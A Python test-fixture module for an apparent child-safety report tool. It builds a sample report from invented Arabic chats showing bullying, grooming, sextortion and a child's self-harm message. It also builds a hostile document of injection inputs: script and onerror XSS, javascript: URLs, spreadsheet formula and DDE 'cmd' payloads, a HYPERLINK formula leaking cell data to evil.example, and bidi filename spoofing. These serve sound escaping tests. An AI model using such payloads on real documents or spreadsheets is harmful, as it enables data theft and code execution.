"""Builders for the report tests: a realistic document and a hostile one
(fixtures are in conftest.py)."""

from __future__ import annotations

import hashlib
from collections import Counter

from guardian.reports.document import (
    Attachment,
    ContextMessage,
    Conversation,
    Evidence,
    Explanation,
    Finding,
    Helpline,
    Period,
    ReportDocument,
    ReportMeta,
    Review,
    Source,
    Span,
    Step,
    Summary,
    sort_key,
)

CHILD = "سارة"


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def spans_for(text: str, *pairs: tuple[str, str]) -> tuple[Span, ...]:
    out = []
    for word, label in pairs:
        start = text.index(word)
        out.append(Span(start, start + len(word), label))
    return tuple(out)


WA = sha("whatsapp export")
TG = sha("telegram export")

SOURCES = (
    Source("/home/umm-sara/Downloads/دردشة واتساب مع الصف الثاني متوسط ب.txt", WA, "whatsapp",
           "2025-03-10T20:01:12+03:00", "whatsapp-txt 1"),
    Source("/home/umm-sara/Downloads/telegram/result.json", TG, "telegram",
           "2025-03-10T20:03:40+03:00", "telegram-json 1"),
)

STEPS_AR = {
    "calm": Step("الهدوء أولًا، ثم شكر طفلك على إخبارك، والتأكيد بوضوح أن اللوم على من آذاه لا عليه.",
                 "NCMEC، خطوات للوالدين", "https://www.missingkids.org/gethelpnow/isyourexplicitcontentoutthere"),
    "keep": Step("احفظ الأدلة: لقطات شاشة تُظهر الاسم والوقت، ولا تحذف المحادثة.",
                 "eSafety Commissioner (Australia)", "https://www.esafety.gov.au/parents"),
    "school": Step("تواصل مع المرشد الطلابي في المدرسة وشارك هذا التقرير.", "UNICEF", ""),
    "police": Step("في التهديد أو الابتزاز: بلّغ الشرطة، ولا تدفع شيئًا ولا ترسل صورًا.",
                   "FBI, Sextortion", "https://www.fbi.gov/how-we-can-help-you/scams-and-safety/common-scams-and-crimes/sextortion"),
    "talk": Step("اسأل طفلك بهدوء عن شعوره، واطلب مساعدة مختص إذا ذكر إيذاء نفسه.", "WHO", ""),
}

STEPS_EN = {
    "calm": Step("Stay calm, thank your child for telling you, and make clear the person who hurt them is to blame.",
                 "NCMEC, steps for parents", "https://www.missingkids.org/gethelpnow/isyourexplicitcontentoutthere"),
    "keep": Step("Keep the evidence: screenshots showing the name and time; do not delete the chat.",
                 "eSafety Commissioner (Australia)", "https://www.esafety.gov.au/parents"),
    "school": Step("Contact the school counsellor and share this report.", "UNICEF", ""),
    "police": Step("For threats or blackmail: report to the police; do not pay or send pictures.",
                   "FBI, Sextortion", "https://www.fbi.gov/how-we-can-help-you/scams-and-safety/common-scams-and-crimes/sextortion"),
    "talk": Step("Ask your child calmly how they feel; get professional help if they mention self-harm.", "WHO", ""),
}

# (id, conversation, sender, time, text, [(word, label)], severity, step keys, what_ar, why_ar, reason_ar)
RAW_FINDINGS = [
    ("f01", "c1", "ريم العتيبي", "2025-03-02T19:04:11+03:00", "انتي غبية ومحد يبيك في القروب",
     [("غبية", "insult"), ("محد يبيك", "exclusion")], "medium", ["calm", "keep", "school"],
     "شتم وإقصاء من القروب", "الإهانة المتكررة أمام الآخرين تؤذي ثقة الطفل بنفسه.", "تكررت من المرسلة نفسها ٣ مرات خلال أسبوع."),
    ("f02", "c1", "نوف", "2025-03-02T19:06:40+03:00", "طلعوها من القروب، لا احد يكلمها",
     [("طلعوها من القروب", "exclusion")], "medium", ["calm", "school"],
     "تحريض على إقصاء سارة من المجموعة", "الإقصاء الجماعي من أكثر أشكال التنمر إيلامًا.", "دعوة صريحة لعدة أشخاص."),
    ("f03", "c1", "+966 55 123 4567", "2025-03-03T22:15:03+03:00", "سارة تسوي اشياء ما تنقال، الكل يدري عنها",
     [("تسوي اشياء ما تنقال", "rumor")], "medium", ["calm", "keep", "school"],
     "نشر شائعة عن سارة", "الشائعات تنتشر بسرعة ويصعب إيقافها.", "أُرسلت في مجموعة من ٣٢ شخصًا."),
    ("f04", "c1", "ريم العتيبي", "2025-03-04T21:15:07+03:00", "والله لأوريك بكرة بعد المدرسة، بتشوفين وش بيصير لك",
     [("لأوريك بكرة بعد المدرسة", "threat")], "high", ["calm", "keep", "school", "police"],
     "تهديد بإيذاء جسدي بعد المدرسة", "التهديد بمكان ووقت محددين يستحق التعامل معه بجدية.", "ذكرت مكانًا ووقتًا محددين."),
    ("f05", "c2", "ماجد", "2025-03-05T23:40:19+03:00", "انتي انضج من عمرك، خلي كلامنا سر بيني وبينك ولا تقولين لأهلك",
     [("سر بيني وبينك", "grooming"), ("لا تقولين لأهلك", "grooming")], "high", ["calm", "keep", "police"],
     "شخص بالغ يطلب السرية عن الأهل", "طلب إخفاء العلاقة عن الأهل من أوضح علامات الاستدراج.", "رسائل ليلية من شخص غير معروف مع طلب السرية."),
    ("f06", "c2", "ماجد", "2025-03-06T00:05:44+03:00", "ابعتيلي صورة لك الحين بس لي انا",
     [("ابعتيلي صورة لك", "sexual")], "critical", ["calm", "keep", "police"],
     "طلب صورة خاصة من طفلة", "طلب الصور من الأطفال جريمة في أغلب الدول.", "طلب صور بعد طلب السرية."),
    ("f07", "c2", "ماجد", "2025-03-07T01:12:30+03:00", "اذا ما دفعتي ٥٠٠ ريال بنشر صورتك عند كل اللي تعرفينهم",
     [("اذا ما دفعتي ٥٠٠ ريال", "blackmail"), ("بنشر صورتك", "blackmail")], "critical", ["calm", "keep", "police"],
     "ابتزاز بنشر صورة مقابل المال", "الدفع نادرًا ما ينهي الابتزاز، بل تكبر المطالب عادة.", "تهديد بالنشر مع طلب مال."),
    ("f08", "c3", "Kh4lid_99", "2025-03-08T17:22:10+03:00", "you are so bad 😂😂 noob روحي العبي مع البنات يا فاشلة",
     [("noob", "insult"), ("يا فاشلة", "insult")], "low", ["calm"],
     "سخرية أثناء اللعب", "السخرية المتكررة في اللعب الجماعي قد تتحول إلى تنمر.", "مرة واحدة حتى الآن."),
    ("f09", "c3", "Kh4lid_99", "2025-03-08T17:25:51+03:00", "انا سارة الحقيقية وهذا حسابي الجديد، ضيفوني",
     [("انا سارة الحقيقية", "impersonation")], "medium", ["calm", "keep"],
     "انتحال شخصية سارة بحساب جديد", "الحساب المزيف قد يُستخدم لإحراجها أو خداع أصدقائها.", "يدعي أنه سارة."),
    ("f10", "c1", "سارة", "2025-03-09T02:10:00+03:00", "تعبت من كل شي وما ابي اعيش خلاص",
     [("ما ابي اعيش", "self_harm")], "critical", ["talk", "calm"],
     "سارة كتبت أنها لا تريد أن تعيش", "هذه العبارة تستدعي الحديث معها اليوم وطلب مساعدة مختص.", "كتبتها الطفلة نفسها بعد أيام من التنمر."),
    ("f11", "c1", "هند", "2025-03-09T08:30:00+03:00", "",
     [], "low", ["calm"],
     "صورة أُرسلت دون نص بعد رسائل التنمر", "قد تكون الصورة جزءًا من السخرية؛ لم يحفظها حارس.", "مرفق بعد رسائل مسيئة."),
]

WHAT_EN = {
    "f01": ("Insult and exclusion from the group", "Repeated insults in front of others hurt a child's confidence.", "Three times from the same sender in a week."),
    "f02": ("Incitement to push Sara out of the group", "Group exclusion is one of the most painful forms of bullying.", "An explicit call to several people."),
    "f03": ("A rumour about Sara", "Rumours spread fast and are hard to stop.", "Sent in a group of 32 people."),
    "f04": ("A threat of physical harm after school", "A threat naming a place and time must be taken seriously.", "Named a place and a time."),
    "f05": ("An adult asking for secrecy from the parents", "Asking a child to hide a relationship from parents is a clear grooming sign.", "Late-night messages from a stranger asking for secrecy."),
    "f06": ("Request for a private picture from a child", "Asking children for pictures is a crime in most countries.", "Picture request after asking for secrecy."),
    "f07": ("Blackmail: money or a picture gets shared", "Paying rarely ends blackmail; demands usually grow.", "Threat to publish plus a demand for money."),
    "f08": ("Mockery while gaming", "Repeated mockery in team games can turn into bullying.", "Once so far."),
    "f09": ("Someone pretending to be Sara", "A fake account can embarrass her or trick her friends.", "Claims to be Sara."),
    "f10": ("Sara wrote that she does not want to live", "Talk with her today and get professional help.", "Written by the child after days of bullying."),
    "f11": ("A picture sent without text after the bullying", "The picture may be part of the mockery; Guardian did not keep it.", "Attachment after abusive messages."),
}

CONTEXT = {
    "c1": [("ريم العتيبي", "هههه شوفوا وش كتبت"), ("سارة", "ليش تسوين كذا؟ انا ما سويت لك شي"),
           ("نوف", "صح كلامها"), ("سارة", "خلاص اتركوني")],
    "c2": [("ماجد", "مساء الخير يا حلوة"), ("سارة", "مين معي؟"), ("ماجد", "صديق، لا تخافين"),
           ("سارة", "ما اعرفك")],
    "c3": [("Kh4lid_99", "gg"), ("سارة", "انت اللي خسرتنا"), ("Kh4lid_99", "lol")],
}

CONVERSATIONS = {
    "c1": ("الصف الثاني متوسط ب", ("سارة", "ريم العتيبي", "نوف", "+966 55 123 4567", "هند")),
    "c2": ("ماجد", ("سارة", "ماجد")),
    "c3": ("فريق فورتنايت", ("سارة", "Kh4lid_99")),
}

PATTERNS_AR = {
    "c1": ("تنمر متكرر من ريم العتيبي خلال أسبوع", "رسالة إيذاء نفس من سارة بعد أيام من التنمر"),
    "c2": ("رسائل ليلية من شخص غير معروف", "طلب سرية ثم طلب صور ثم ابتزاز"),
    "c3": ("سخرية وانتحال شخصية في لعبة جماعية",),
}
PATTERNS_EN = {
    "c1": ("Repeated bullying by ريم العتيبي within a week", "A self-harm message from Sara after days of bullying"),
    "c2": ("Late-night messages from a stranger", "Secrecy, then picture requests, then blackmail"),
    "c3": ("Mockery and impersonation in a team game",),
}

HELP = (
    Helpline("SA", "خط مساندة الطفل (برنامج الأمان الأسري الوطني)", "116111", "", "NEWS: Okaz/Saudi Gazette (2023)", "2026-11-24"),
    Helpline("SA", "الرقم الموحد للطوارئ", "911", "", "المركز الوطني للعمليات الأمنية", "2026-11-24"),
    Helpline("AE", "Ministry of Interior Child Protection Centre", "116111", "https://www.moi-cpc.ae", "moi-cpc.ae", "2026-11-24"),
    Helpline("ZZ", "NCMEC Take It Down", "", "https://takeitdown.ncmec.org", "ncmec.org", "2026-11-24"),
)


def _context(conv: str, child: str) -> tuple[ContextMessage, ...]:
    out = []
    for i, (sender, text) in enumerate(CONTEXT[conv]):
        out.append(ContextMessage(sender, f"2025-03-0{1 + i}T18:0{i}:00+03:00", text, sender == child))
    return tuple(out)


def make_document(lang: str = "ar") -> ReportDocument:
    steps = STEPS_AR if lang == "ar" else STEPS_EN
    findings = []
    for (fid, conv, sender, time, text, pairs, sev, step_keys, what, why, reason) in RAW_FINDINGS:
        if lang != "ar":
            what, why, reason = WHAT_EN[fid]
        source = WA if conv == "c1" else TG
        day, clock = time[:10], time[11:19]
        raw = (f"[{day[8:10]}/{day[5:7]}/{day[:4]}, {clock}] {sender}: {text}" if source == WA else
               '{"id": %d, "type": "message", "date": "%s", "from": "%s", "text": "%s"}'
               % (1000 + int(fid[1:]), time[:19], sender, text))
        attachment = None
        if fid == "f11":
            attachment = Attachment("image", "IMG-20250309-WA0007.jpg", sha("a picture"))
            raw = f"[09/03/2025, 08:30:00] {sender}: IMG-20250309-WA0007.jpg (file attached)"
        review = {"f04": Review("important", "كلمت المدرسة يوم الأربعاء. ريم العتيبي في نفس الفصل."),
                  "f08": Review("not_a_problem", "مزاح بين لاعبين")}.get(fid, Review("new", ""))
        findings.append(Finding(
            id=fid, conversation=conv, sender=sender, time=time, text=text,
            labels=tuple(dict.fromkeys(label for _, label in pairs)) or ("insult",), severity=sev,
            spans=spans_for(text, *pairs),
            explanation=Explanation(what, why, reason, tuple(steps[k] for k in step_keys)),
            context=_context(conv, CHILD), review=review,
            evidence=Evidence(source, raw, 100 + int(fid[1:])), attachment=attachment))
    conversations = []
    for cid, (title, participants) in CONVERSATIONS.items():
        mine = [f for f in findings if f.conversation == cid]
        times = sorted((f.time for f in mine), key=sort_key)
        order = ["critical", "high", "medium", "low", "none"]
        first = sorted(mine, key=lambda f: (order.index(f.severity), sort_key(f.time)))[:3]
        conversations.append(Conversation(cid, title, participants, Summary(
            period=Period(times[0], times[-1]),
            participants=tuple(dict.fromkeys(f.sender for f in mine)),
            by_category=dict(Counter(label for f in mine for label in f.labels)),
            by_severity=dict(Counter(f.severity for f in mine)),
            patterns=(PATTERNS_AR if lang == "ar" else PATTERNS_EN)[cid],
            read_first=tuple(f.id for f in first), messages=420 + len(cid))))
    return ReportDocument(
        report=ReportMeta("GRD-2025-03-10-7F3A", "2025-03-10T20:15:00+03:00", "0.1.0", lang),
        child=CHILD, sources=SOURCES, conversations=tuple(conversations), findings=tuple(findings),
        help=HELP)


HOSTILE_TEXTS = {
    "script": "<script>alert(1)</script> شوفي هذا",
    "img": '<img src=x onerror=alert(1)> "quoted" & \'single\'',
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"اضغط هنا")',
    "cmd": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "bidi": "حسابي \u202egpj.exe\u202c مهم \u202e ولا يغلق",
    "isolate": "\u2067مفتوح بلا إغلاق \u2066 وLRI",
    "controls": "قبل\x00NUL\x07BEL\x1bESC\x7fDEL\x85NEL\x9fC1\ufffe\uffff\ud800 بعد",
    "emoji": "😂😂👍🏽❤️‍🔥 🇸🇦 👨‍👩‍👧 يا حلوة 🙈 " * 8,
    "mixed": "Meet me at 9pm عند المدرسة رقم 12 street, ok? 123٤٥٦ English then عربي",
    "long": ("هذه رسالة طويلة جدا " * 260)[:5000],
    "nospace": "ا" * 3000 + "x" * 2000,
    "empty": "",
    "crlf": "سطر اول\r\nسطر ثاني\rسطر ثالث",
}

HOSTILE_NAMES = ("\u202eEvil\u202c <b>Boss</b>", "=cmd|'/C calc'!A0", "مجهول\u202e\x00", "@admin", "-مروان")


def make_hostile_document(lang: str = "ar") -> ReportDocument:
    base = make_document(lang)
    findings = []
    keys = list(HOSTILE_TEXTS)
    for i, key in enumerate(keys):
        text = HOSTILE_TEXTS[key]
        sender = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
        spans = (Span(0, min(len(text), 6), "insult"),) if text else ()
        findings.append(Finding(
            id=f"h{i:02d}-{key}", conversation="hx", sender=sender,
            time=f"2025-04-01T10:{i:02d}:00+03:00", text=text, labels=("insult",), severity="medium",
            spans=spans,
            explanation=Explanation("<i>what</i> " + text[:40], "=why " + text[:20], "@reason",
                                    (Step("<b>step</b> =1+1", "<script>src</script>", "javascript:alert(1)"),)),
            context=(ContextMessage(HOSTILE_NAMES[(i + 1) % len(HOSTILE_NAMES)], "not a time", text[:300]),
                     ContextMessage(CHILD, "2025-04-01T10:00:00+03:00", "<script>ردي</script>", True)),
            review=Review("important", "=note<script>"),
            evidence=Evidence(WA, f"[01/04/2025, 10:{i:02d}:00] {sender}: {text}", i),
            attachment=Attachment("image", "<img src=x onerror=alert(2)>.jpg", sha("x")) if key == "img" else None,
        ))
    conv = Conversation("hx", "<script>title</script>\u202e", HOSTILE_NAMES + (CHILD,), Summary(
        period=Period("2025-04-01T10:00:00+03:00", "2025-04-01T10:16:00+03:00"),
        participants=HOSTILE_NAMES, by_category={"insult": len(findings)}, by_severity={"medium": len(findings)},
        patterns=("<script>pattern</script>", "=1+1"), read_first=(findings[0].id,)))
    return ReportDocument(
        report=base.report, child=CHILD,
        sources=base.sources + (Source("<script>alert('path')</script>\u202e.txt", sha("h"), "whatsapp",
                                       "2025-04-01T11:00:00+03:00", "=1+1"),),
        conversations=(conv,), findings=tuple(findings),
        help=base.help + (Helpline("ZZ", "<script>x</script>", "=1+1", "javascript:alert(1)", "@src"),))


